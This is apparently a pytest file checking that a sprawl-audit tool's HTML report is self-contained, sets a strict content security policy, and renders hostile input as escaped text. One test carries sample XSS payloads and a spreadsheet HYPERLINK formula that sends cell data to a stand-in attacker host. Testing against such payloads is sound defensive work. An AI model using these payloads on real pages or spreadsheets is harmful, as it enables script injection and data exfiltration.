"""The HTML report: complete, self-contained, printable, and inert with hostile input.

"Inert": nothing in the Result can add an element, an attribute, a script or a network
fetch to the page. Checked here by parsing the output; tests/test_html_browser.py checks
the same in a real browser.
"""

from __future__ import annotations

import io
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from report_fixtures import FORBIDDEN_CHARS, demo_result, hostile_result, sample

from sprawl_audit.cli.main import main
from sprawl_audit.report.formats import RenderOptions, get_format
from sprawl_audit.report.formats.html_format import CSP

SECTION_IDS = ["summary", "heatmap", "graph", "findings", "inventory", "coverage"]
#: Every element the report itself writes; anything else came from tenant text.
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "p", "nav",
    "a", "main", "section", "div", "ul", "li", "b", "span", "figure", "svg", "g", "text",
    "tspan", "rect", "circle", "path", "table", "thead", "tbody", "tr", "th", "td", "code",
    "article", "br", "em", "footer", "small",
}


class Collector(HTMLParser):
    """Every start tag with its attributes, and the ids in document order."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.ids: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        if attributes.get("id"):
            self.ids.append(str(attributes["id"]))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def render(doc: Any, **options: Any) -> str:
    out = io.StringIO()
    get_format("html").render(doc, out, RenderOptions(**options))
    return out.getvalue()


def parse(text: str) -> Collector:
    collector = Collector()
    collector.feed(text)
    collector.close()
    return collector


def test_format_metadata() -> None:
    fmt = get_format("html")
    assert (fmt.name, fmt.extension, fmt.binary, fmt.multi_file) == ("html", "html", False, False)


def test_sections_in_reading_order_and_compliance_only_with_frameworks() -> None:
    doc = sample()
    ids = parse(render(doc)).ids
    assert [i for i in ids if i in [*SECTION_IDS, "compliance"]] == SECTION_IDS
    doc["frameworks"] = hostile_result()["frameworks"]
    ids = parse(render(doc)).ids
    assert [i for i in ids if i in [*SECTION_IDS, "compliance"]] == [
        "summary", "heatmap", "graph", "findings", "inventory", "compliance", "coverage"]


def test_self_contained_no_script_no_fetch() -> None:
    text = render(demo_result())
    head = text[: text.index("</head>")]
    # the policy comes before anything that could load or run
    assert head.index('http-equiv="Content-Security-Policy"') < head.index("<title>")
    assert f'content="{CSP}"' in head
    assert "default-src 'none'" in CSP and "script-src" not in CSP
    parsed = parse(text)
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, tag
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        for name in ("src", "srcset", "action", "formaction", "xlink:href", "background"):
            assert name not in attrs, (tag, attrs)
        if "href" in attrs:
            assert str(attrs["href"]).startswith("#"), attrs  # in-page links only
    assert "<script" not in text.lower()
    assert "url(" not in text and "@import" not in text


def test_summary_heatmap_and_graph_from_the_demo() -> None:
    doc = demo_result()
    text = render(doc)
    summary = doc["summary"]
    summary_html = text[text.index('id="summary"'):text.index('id="heatmap"')]
    for number in (summary["platforms"], summary["people"], summary["consumer_app_users"],
                   summary["coverage_gaps"], len(doc["findings"])):
        assert f">{number:,}<" in summary_html, number
    assert "use consumer apps for work" in summary_html and "Act first on" in summary_html
    # heat map: one filled cell per (capability, platform) pair
    heatmap = text[text.index('id="heatmap"'):text.index('id="graph"')]
    pairs = sum(len(c["platforms"]) for c in doc["capabilities"])
    assert heatmap.count('class="hm-cell filled"') == pairs
    assert heatmap.count('class="hm-row overlap"') == len(
        [c for c in doc["capabilities"] if sum(1 for p in c["platforms"] if p["active_users"]) > 1])
    # graph: every active platform, department and external party is a node
    graph = text[text.index('id="graph"'):text.index('id="findings"')]
    active = [p for p in doc["platforms"] if p["active_users"]]
    # a platform no one is active on is drawn when it reaches outside (Entra ID's partners)
    reaching = {p for e in doc["external_parties"] for p in e["platforms"]}
    drawn = [p for p in doc["platforms"] if p["active_users"] or p["id"] in reaching]
    assert graph.count('class="node platform') == len(drawn)
    consumer = [p for p in active if p["classification"] == "consumer"]
    assert graph.count('class="node platform consumer') == len(consumer) > 0
    assert graph.count('class="node department') == len(doc["departments"])
    assert graph.count('class="node external') == len(doc["external_parties"])
    assert 'class="edge uses consumer"' in graph


def test_findings_have_remediation_and_are_worst_first() -> None:
    doc = demo_result()
    text = render(doc)
    findings = text[text.index('id="findings"'):text.index('id="inventory"')]
    positions = [findings.find(f'sev-heading sev-{sev}') for sev in
                 ("critical", "high", "medium", "low", "info")]
    present = [p for p in positions if p >= 0]
    assert present == sorted(present) and len(present) >= 3
    # one block per rule (per severity: a rule's severity_when can grade its findings
    # differently), and one per consumer app judged by several rules (its decision)
    ungrouped = {(f["rule_id"], f["severity"]) for f in doc["findings"]
                 if not f["suppressed"] and "group" not in f}
    assert doc["finding_groups"]
    assert findings.count('<article class="finding') == len(ungrouped) + len(
        doc["finding_groups"])
    for group in doc["finding_groups"]:
        assert f"{group['subject']['name']}: a consumer app used for work" in findings
    assert findings.count("What to do.") >= 1
    assert "Mail forwarded to a personal mailbox" in findings


def test_inventory_lists_every_platform_and_coverage_every_topic() -> None:
    doc = demo_result()
    text = render(doc)
    inventory = text[text.index('id="inventory"'):text.index('id="coverage"')]
    table = inventory[:inventory.index("</table>")]
    assert table.count("<tr>") == len(doc["platforms"]) + 1
    coverage = text[text.index('id="coverage"'):]
    assert coverage.count('<span class="status ') == len(doc["coverage"])


def test_print_css() -> None:
    text = render(sample())
    assert "@media print" in text and "break-before:page" in text
    assert "@page{size:A4" in text and "print-color-adjust:exact" in text


def test_hostile_strings_are_escaped_and_inert() -> None:
    doc = hostile_result()
    text = render(doc, verbose=True)
    parsed = parse(text)
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, tag
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert "src" not in attrs
    for char in FORBIDDEN_CHARS:
        assert char not in text, repr(char)
    assert "<script" not in text and "<img" not in text
    # shown as text, not dropped
    visible = "".join(parsed.text)
    assert "<script>alert('x')</script>" in visible
    assert '"><img src=x onerror=alert(1)>' in visible
    assert '=HYPERLINK("http://evil.example/?d="&A1,"Calendar Sync")' in visible
    assert "Executive Office" in visible  # the override is gone, the words stay
    assert "&lt;script&gt;" in text
    assert 'id="compliance"' in text and "UK GDPR" in visible
    assert "Suppressed (1)" in visible


def test_a_minimal_result_still_renders() -> None:
    doc = sample()
    for key in ("platforms", "capabilities", "departments", "integrations", "external_parties",
                "phone_numbers", "mail_domains", "findings", "rules", "coverage", "islands"):
        doc[key] = []
    text = render(doc)
    ids = parse(text).ids
    assert [i for i in ids if i in SECTION_IDS] == SECTION_IDS
    assert "No findings." in text


def test_demo_renders_and_re_renders_via_report(tmp_path: Path) -> None:
    runner = CliRunner()
    result_path, first, second = (tmp_path / n for n in ("r.json", "a.html", "b.html"))
    outcome = runner.invoke(main, ["demo", "-f", "json", "-o", str(result_path)])
    assert outcome.exit_code == 0, outcome.output
    outcome = runner.invoke(main, ["demo", "-f", "html", "-o", str(first)])
    assert outcome.exit_code == 0, outcome.output
    outcome = runner.invoke(main, ["report", str(result_path), "-f", "html", "-o", str(second)])
    assert outcome.exit_code == 0, outcome.output
    rerendered = second.read_text("utf-8")
    assert rerendered.startswith("<!DOCTYPE html>") and 'id="graph"' in rerendered
    # the run id and times differ between the two demo runs; nothing else does
    strip = re.compile(r"run [^<·]+|\d+ \w{3} \d{4} \d\d:\d\d UTC")
    assert strip.sub("", first.read_text("utf-8")) == strip.sub("", rerendered)


def test_graph_is_capped_for_large_inventories() -> None:
    doc = sample()
    template = doc["platforms"][-1]
    doc["platforms"] = [dict(template, id=f"p{i}", name=f"Platform {i}", active_users=100 - i)
                        for i in range(60)]
    text = render(doc)
    graph = text[text.index('id="graph"'):text.index('id="findings"')]
    assert graph.count('class="node platform') == 40
    assert "+20 smaller platforms" in graph


@pytest.mark.parametrize("verbose", [False, True])
def test_verbose_adds_fingerprints(verbose: bool) -> None:
    doc = sample()
    text = render(doc, verbose=verbose)
    assert (doc["findings"][0]["fingerprint"] in text) is verbose


def test_single_file_formats_write_into_a_directory(tmp_path: Path) -> None:
    """The interface's defaults: render_bytes is render as UTF-8; render_files writes one file."""
    fmt = get_format("html")
    doc = sample()
    data = fmt.render_bytes(doc, RenderOptions())
    assert data == render(doc).encode("utf-8")
    paths = fmt.render_files(doc, tmp_path, RenderOptions(), stem="board-pack")
    assert paths == [tmp_path / "board-pack.html"]
    assert paths[0].read_bytes() == data
    assert sorted(p.name for p in tmp_path.iterdir()) == ["board-pack.html"]  # no temp files
